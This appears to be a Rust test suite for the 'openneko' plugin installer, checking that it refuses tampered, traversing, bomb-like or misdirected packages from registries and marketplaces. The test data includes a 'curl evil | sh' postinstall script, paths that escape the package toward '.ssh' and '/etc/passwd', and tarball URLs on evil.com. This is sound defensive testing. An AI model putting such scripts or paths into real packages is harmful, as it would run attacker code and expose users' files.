//! Attacks through registries, marketplaces and packages: each is refused with its
//! reason, nothing is installed, and nothing existing is lost.

use std::fs;

use serde_json::{Value, json};
use tar::EntryType;

use crate::support::{
    Answer, Entry, Machine, NAME, Package, Ran, catalog, gzip, integrity, metadata_path, plugin, tar,
};

/// A machine with version 1.0.0 installed, secrets and grants, and a bad 1.1.0 in the registry.
struct Attack {
    machine: Machine,
    bad: Package,
}

impl Attack {
    fn new() -> Self {
        let mut machine = Machine::with_marketplace();
        machine.offer(&Package::new("1.0.0"));
        assert_eq!(machine.run(&["install", NAME]).code, Some(0));
        assert_eq!(machine.run(&["grant", NAME, "auth.acme.com"]).code, Some(0));
        assert_eq!(
            machine.run(&["secrets", "set", NAME, "KEY", "value"]).code,
            Some(0)
        );
        let bad = Package::new("1.1.0");
        Self { machine, bad }
    }

    /// Installs what is offered; everything on the machine must stay as it was.
    #[track_caller]
    fn install(&self, args: &[&str]) -> Ran {
        let before = self.machine.files();
        let ran = self.machine.run(&[&["install", NAME], args].concat());
        assert_eq!(ran.code, Some(1), "{ran:#?}");
        let after = self.machine.files();
        let names = |files: &std::collections::BTreeMap<_, _>| {
            files.keys().cloned().collect::<Vec<std::path::PathBuf>>()
        };
        assert_eq!(names(&before), names(&after), "{ran:#?}");
        assert!(before == after, "a file has changed: {ran:#?}");
        self.machine.run(&["list"]).printed(
            "@acme/plugin-sso@1.0.0  [*.acme.com]  [SSO provider]  from=acme  granted=auth.acme.com:443\n",
        );
        ran
    }

    #[track_caller]
    fn refused(mut self, reason: &str) {
        self.machine.offer(&self.bad);
        self.install(&[]).failed(1, &format!("error: {reason}"));
    }

    #[track_caller]
    fn refused_entry(mut self, entry: Entry, reason: &str) {
        self.bad.entries.push(entry);
        self.refused(&format!("{NAME}@1.1.0: the package cannot be unpacked: {reason}"));
    }
}

fn differs(source: &str, expected: &str, received: &str) -> String {
    format!(
        "error: the integrity of {NAME}@1.1.0 differs from the one in the {source}: the package is not the one \
         that was listed, and nothing was installed\n  expected {expected}\n  received {received}"
    )
}

#[test]
fn a_tampered_tarball_is_refused() {
    let mut attack = Attack::new();
    attack.machine.offer(&attack.bad);
    let honest = integrity(&attack.bad.tarball());
    let mut evil = attack.bad.clone();
    evil.entries[0].content = b"steal()".to_vec();
    attack.machine.publish(&evil, &evil.tarball(), &honest);
    let expected = differs("marketplace", &honest, &integrity(&evil.tarball()));
    attack.install(&[]).failed(1, &expected);
}

#[test]
fn a_registry_that_was_taken_over_whole_is_caught_by_the_marketplace() {
    let mut attack = Attack::new();
    attack.machine.offer(&attack.bad);
    let honest = integrity(&attack.bad.tarball());
    let mut evil = attack.bad.clone();
    evil.entries[0].content = b"steal()".to_vec();
    let tarball = evil.tarball();
    attack.machine.publish(&evil, &tarball, &integrity(&tarball));
    attack
        .install(&[])
        .failed(1, &differs("marketplace", &honest, &integrity(&tarball)));
}

#[test]
fn a_wrong_integrity_in_the_registry_is_refused() {
    let mut attack = Attack::new();
    attack.machine.offer(&attack.bad);
    let tarball = attack.bad.tarball();
    let wrong = integrity(b"another");
    attack.machine.publish(&attack.bad.clone(), &tarball, &wrong);
    attack
        .install(&[])
        .failed(1, &differs("registry", &wrong, &integrity(&tarball)));
}

#[test]
fn a_hash_that_is_no_sha512_is_refused() {
    let mut attack = Attack::new();
    let tarball = attack.bad.tarball();
    let bad = attack.bad.clone();
    attack.machine.publish(&bad, &tarball, &integrity(&tarball));
    attack.machine.list(&bad, "sha512-unknown", &json!({}));
    let expected = differs("marketplace", "sha512-unknown", &integrity(&tarball));
    attack.install(&[]).failed(1, &expected);
    attack.machine.list(&bad, &integrity(&tarball), &json!({}));
    for hash in ["", "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk="] {
        attack.machine.publish(&bad, &tarball, hash);
        let registry = attack.machine.server.url("/");
        attack.install(&[]).failed(
            1,
            &format!("error: the answer of {registry} for {NAME} is not understood: it has no SHA-512 of the package (dist.integrity)"),
        );
    }
}

#[test]
fn a_yanked_version_is_refused_with_its_reason() {
    let mut attack = Attack::new();
    attack.machine.offer(&attack.bad);
    let hash = integrity(&attack.bad.tarball());
    let yanked = json!({ "yanked": true, "yanked_reason": "leaks \u{1b}[31mtokens" });
    attack.machine.list(&attack.bad.clone(), &hash, &yanked);
    attack.install(&["--version", "1.1.0"]).failed(
        1,
        "error: marketplace: @acme/plugin-sso has no published non-yanked version 1.1.0 (yanked: leaks [31mtokens)",
    );
}

#[test]
fn scripts_are_refused_by_their_names() {
    let mut attack = Attack::new();
    attack.bad.json["scripts"] = json!({ "test": "x", "postinstall": "curl evil | sh", "prepare": "x" });
    attack.refused(
        "@acme/plugin-sso@1.1.0: the package has install scripts (postinstall, prepare): openneko runs none, and a \
         plugin that needs one is refused",
    );
}

#[test]
fn dependencies_are_refused_unless_they_are_bundled() {
    let mut attack = Attack::new();
    attack.bad.json["dependencies"] = json!({ "left-pad": "1", "zod": "4" });
    attack.bad.json["bundledDependencies"] = json!(["zod"]);
    attack.refused(
        "@acme/plugin-sso@1.1.0: the package depends on other packages (left-pad): openneko installs none, so a \
         plugin must bundle what it needs",
    );
}

#[test]
fn entries_that_leave_the_package_are_refused() {
    for path in [
        "package/../../evil",
        "../evil",
        "package/dist/../../evil",
        "package//evil",
        "package/./evil",
        "/etc/evil",
    ] {
        let reason = format!("the entry {path:?} leaves the package");
        Attack::new().refused_entry(Entry::file(path, b"x"), &reason);
    }
    Attack::new().refused_entry(
        Entry::file("other/file", b"x"),
        "the entry \"other/file\" is outside of the folder that the others are in",
    );
}

#[test]
fn links_devices_and_pipes_are_refused() {
    for (kind, target, name) in [
        (EntryType::Symlink, "/etc/passwd", "a symbolic link"),
        (EntryType::Symlink, "run.js", "a symbolic link"),
        (EntryType::Link, "package/package.json", "a hard link"),
        (EntryType::Char, "", "a device"),
        (EntryType::Block, "", "a device"),
        (EntryType::Fifo, "", "a pipe"),
        (EntryType::XGlobalHeader, "", "a header for all entries"),
    ] {
        let reason = format!("the entry \"package/x\" is {name}, and only files and folders are taken");
        Attack::new().refused_entry(Entry::link("package/x", kind, target), &reason);
    }
}

#[test]
fn names_that_differ_between_file_systems_are_refused() {
    Attack::new().refused_entry(
        Entry::file("package/dist/RUN.js", b"x"),
        "the entries \"dist/run.js\" and \"dist/RUN.js\" would be one file on some file systems",
    );
    Attack::new().refused_entry(
        Entry::file("package/dist/run.js", b"second"),
        "the entries \"dist/run.js\" and \"dist/run.js\" would be one file on some file systems",
    );
    Attack::new().refused_entry(
        Entry::file("package/Dist/other.js", b"x"),
        "the entries \"dist\" and \"Dist\" would be one file on some file systems",
    );
    Attack::new().refused_entry(
        Entry::file("package/dist/run.js/x", b"x"),
        "the entries \"dist/run.js\" and \"dist/run.js\" would be one file on some file systems",
    );
    for path in ["package/\u{e9}.js", "package/a\\..\\b", "package/a\nb"] {
        let reason = format!("the entry {path:?} has a name that is not plain ASCII");
        // The message goes to a terminal, where its quotes have been escaped already.
        Attack::new().refused_entry(Entry::file(path, b"x"), &reason);
    }
}

#[test]
fn bombs_are_refused() {
    let mut attack = Attack::new();
    attack
        .bad
        .entries
        .push(Entry::file("package/zeros", &vec![0; 40 << 20]));
    attack.refused(
        "@acme/plugin-sso@1.1.0: the package cannot be unpacked: it unpacks to more than 100 times its size, as a \
         bomb does",
    );
    let mut attack = Attack::new();
    for count in 0..2_001 {
        attack
            .bad
            .entries
            .push(Entry::file(&format!("package/files/{count}"), b""));
    }
    attack.refused("@acme/plugin-sso@1.1.0: the package cannot be unpacked: it has more than 2000 entries");
    let deep = format!("package/{}x", "d/".repeat(40));
    Attack::new().refused_entry(
        Entry::file(&deep, b"x"),
        &format!("the entry {deep:?} has a name that is too long or too deep"),
    );
}

#[test]
fn a_runner_outside_of_the_package_is_refused() {
    for (runner, reason) in [
        (
            "../../evil.js",
            "openneko.runner \"../../evil.js\" leaves the package",
        ),
        ("/bin/sh", "openneko.runner \"/bin/sh\" leaves the package"),
        (
            "dist/missing.js",
            "openneko.runner \"dist/missing.js\" is not a file of the package",
        ),
        ("dist", "openneko.runner \"dist\" is not a file of the package"),
    ] {
        let mut attack = Attack::new();
        attack.bad.json["openneko"]["runner"] = json!(runner);
        attack.refused(&format!("{NAME}@1.1.0: {reason}"));
    }
    let mut attack = Attack::new();
    attack.bad.json["openneko"] = json!({});
    attack.refused("@acme/plugin-sso@1.1.0: package.json must declare openneko.runner, the file to run");
    let mut attack = Attack::new();
    attack.bad.json["openneko"]["skill"] = json!("../../../.ssh");
    attack.refused("@acme/plugin-sso@1.1.0: openneko.skill \"../../../.ssh\" leaves the package");
}

#[test]
fn a_package_that_says_it_is_another_one_is_refused() {
    for (field, value, reason) in [
        (
            "name",
            "@acme/other",
            "package.json says name \"@acme/other\", but \"@acme/plugin-sso\" was asked for",
        ),
        (
            "version",
            "6.6.6",
            "package.json says version \"6.6.6\", but \"1.1.0\" was asked for",
        ),
    ] {
        let mut attack = Attack::new();
        attack.bad.json[field] = json!(value);
        attack.refused(&format!("{NAME}@1.1.0: {reason}"));
    }
}

#[test]
fn hosts_that_the_marketplace_does_not_list_are_refused() {
    let mut attack = Attack::new();
    let mut evil = attack.bad.clone();
    evil.json["openneko"]["permissions"] = json!({ "network": ["login.acme.com", "*.evil.com"] });
    let tarball = evil.tarball();
    attack.machine.publish(&evil, &tarball, &integrity(&tarball));
    attack
        .machine
        .list(&attack.bad.clone(), &integrity(&tarball), &json!({}));
    attack.install(&[]).failed(
        1,
        "error: package.json asks to reach *.evil.com, which its marketplace does not list",
    );
}

#[test]
fn hosts_that_no_sandbox_would_grant_are_refused_before_anything_is_downloaded() {
    let mut attack = Attack::new();
    attack.bad.json["openneko"]["permissions"] = json!({ "network": ["*.com"] });
    attack.machine.offer(&attack.bad);
    let asked = attack.machine.server.asked().len();
    attack.install(&["--yes"]).failed(
        1,
        "error: install: @acme/plugin-sso cannot be given its hosts: `*.com` would cover a whole top-level domain; \
         name at least two labels after `*.`",
    );
    assert_eq!(
        attack.machine.server.asked().len(),
        asked + 1,
        "the catalog alone was asked for"
    );
}

#[test]
fn what_is_no_archive_or_more_than_one_is_refused() {
    let package = Package::new("1.1.0").tarball();
    let inner = |ending: &[u8]| {
        let mut content = tar(&[Entry::file("package/package.json", b"{}")]);
        content.extend_from_slice(ending);
        gzip(&content)
    };
    let hidden = tar(&[Entry::file("package/evil.js", b"x")]);
    for (tarball, reason) in [
        (
            b"PK\x03\x04\x14\0\0\0\0\0\0\0".to_vec(),
            "it is no gzipped tar archive (invalid gzip header)",
        ),
        (
            [package.clone(), gzip(b"more")].concat(),
            "there is something behind its end",
        ),
        (
            [package.clone(), b"more".to_vec()].concat(),
            "there is something behind its end",
        ),
        (inner(&hidden), "there is something behind its end"),
    ] {
        let mut attack = Attack::new();
        let bad = attack.bad.clone();
        attack.machine.publish(&bad, &tarball, &integrity(&tarball));
        attack.machine.list(&bad, &integrity(&tarball), &json!({}));
        let expected = format!("error: {NAME}@1.1.0: the package cannot be unpacked: {reason}");
        attack.install(&[]).failed(1, &expected);
    }
    let cut = &package[..package.len() - 20];
    let mut attack = Attack::new();
    let bad = attack.bad.clone();
    attack.machine.publish(&bad, cut, &integrity(cut));
    attack.machine.list(&bad, &integrity(cut), &json!({}));
    attack.install(&[]).noted("it is no gzipped tar archive");
}

#[test]
fn a_malformed_marketplace_is_refused_and_not_trusted() {
    let machine = Machine::new();
    machine.run(&["marketplace", "list"]);
    let before = machine.files();
    let url = machine.server.url("/bad.json");
    for (body, reason) in [
        (
            "<html>",
            "marketplace is malformed: expected value at line 1 column 1",
        ),
        (
            "[]",
            "marketplace is malformed: invalid type: sequence, expected a JSON object at line 1 column 0",
        ),
        (
            r#"{"owner":"a","description":"d","plugins":[]}"#,
            "marketplace is malformed: it has no \"name\"",
        ),
        (
            r#"{"name":"A","owner":"a","description":"d","plugins":{}}"#,
            "marketplace is malformed: it has no list \"plugins\"",
        ),
        (
            "\u{0}",
            "marketplace is malformed: expected value at line 1 column 1",
        ),
    ] {
        machine.server.set("/bad.json", Answer::ok(body.as_bytes()));
        let expected = format!("error: failed to fetch marketplace {url}: {reason}");
        machine.run(&["marketplace", "add", &url]).failed(1, &expected);
        assert!(machine.files() == before);
    }
    let deep = format!("{{\"name\":{}", "[".repeat(100_000));
    machine.server.set("/bad.json", Answer::ok(deep.as_bytes()));
    machine
        .run(&["marketplace", "add", &url])
        .noted("nested more than 32 levels deep");
    assert!(machine.files() == before);
}

#[test]
fn one_bad_entry_leaves_the_good_ones_working() {
    let mut machine = Machine::with_marketplace();
    let good = Package::new("1.0.0");
    machine.offer(&good);
    // In the catalog.
    let hash = integrity(&good.tarball());
    let version = json!({
        "version": "1.0.0", "integrity": hash, "permissions": good.permissions(), "capabilities": { "auth": {} },
        "publishedAt": "2026-06-02"
    });
    let broken_version = json!({ "version": "^2", "integrity": hash });
    let plugins = json!([{ "name": "../evil" }, plugin(NAME, &[broken_version, version]), 7]);
    machine
        .server
        .set("/marketplace.json", Answer::json(&catalog("Acme", &plugins)));
    // In the manifest.
    let manifest = json!({
        "schema": "https://open-neko.github.io/plugins/manifest.schema.json",
        "plugins": [{ "name": "@acme/broken", "version": 1, "kept": true }]
    });
    fs::write(machine.manifest(), manifest.to_string()).unwrap();
    let ran = machine.run(&["install", NAME]);
    ran.printed("installed @acme/plugin-sso@1.0.0 (marketplace=acme) — network: *.acme.com\n")
        .noted("warning: marketplace acme: not usable: plugins[0] (../evil): ")
        .noted("warning: marketplace acme: not usable: plugins[1].versions[0] (@acme/plugin-sso): ")
        .noted("warning: marketplace acme: not usable: plugins[2]: it is not an object");
    machine
        .run(&["list"])
        .printed("@acme/plugin-sso@1.0.0  [*.acme.com]  [SSO provider]  from=acme\n")
        .noted("warning: not usable: plugins[0] (@acme/broken): ");
    assert_eq!(
        machine.entries()[0],
        json!({ "name": "@acme/broken", "version": 1, "kept": true })
    );
}

#[test]
fn a_registry_that_answers_for_another_package_is_refused() {
    let mut attack = Attack::new();
    attack.machine.offer(&attack.bad);
    let registry = attack.machine.server.url("/");
    let set = |metadata: &Value| {
        attack
            .machine
            .server
            .set(&metadata_path(NAME), Answer::json(metadata))
    };
    let answers = [
        (
            json!({ "name": "@acme/other", "versions": {} }),
            "it speaks of \"@acme/other\"",
        ),
        (
            json!({ "name": NAME, "versions": { "1.1.0": { "version": "6.6.6", "dist": { "tarball": "x" } } } }),
            "the entry of a version speaks of \"6.6.6\"",
        ),
        (
            json!({ "name": NAME, "versions": { "1.1.0": { "version": "1.1.0", "dist": { "tarball": "http://evil.com/x.tgz" } } } }),
            "http://evil.com/x.tgz is not https: plain http is for localhost alone",
        ),
        (
            json!({ "name": NAME, "versions": { "1.1.0": { "version": "1.1.0", "dist": { "tarball": "file:///etc/passwd" } } } }),
            "file:///etc/passwd is not https: plain http is for localhost alone",
        ),
    ];
    for (metadata, reason) in answers {
        set(&metadata);
        let expected = format!("error: the answer of {registry} for {NAME} is not understood: {reason}");
        attack.install(&[]).failed(1, &expected);
    }
    set(&json!({ "name": NAME, "versions": {} }));
    attack
        .install(&[])
        .failed(1, &format!("error: {registry} has no {NAME}@1.1.0"));
}

#[test]
fn an_interrupted_download_leaves_nothing() {
    let mut attack = Attack::new();
    attack.machine.offer(&attack.bad);
    let tarball = attack.bad.tarball();
    let cut = Answer {
        headers: vec![("content-length", (tarball.len() + 1).to_string())],
        ..Answer::ok(&tarball)
    };
    // Two different lengths are an attack: two readers may use different ones.
    attack
        .machine
        .server
        .set("/tarballs/acme-plugin-sso-1.1.0.tgz", cut);
    attack.install(&[]).noted("error: cannot download ");
    let gone = Answer::status("500 Internal Server Error");
    attack
        .machine
        .server
        .set("/tarballs/acme-plugin-sso-1.1.0.tgz", gone);
    let url = attack.machine.server.url("/tarballs/acme-plugin-sso-1.1.0.tgz");
    attack.install(&[]).failed(
        1,
        &format!("error: cannot download {url}: HTTP 500 Internal Server Error"),
    );
}
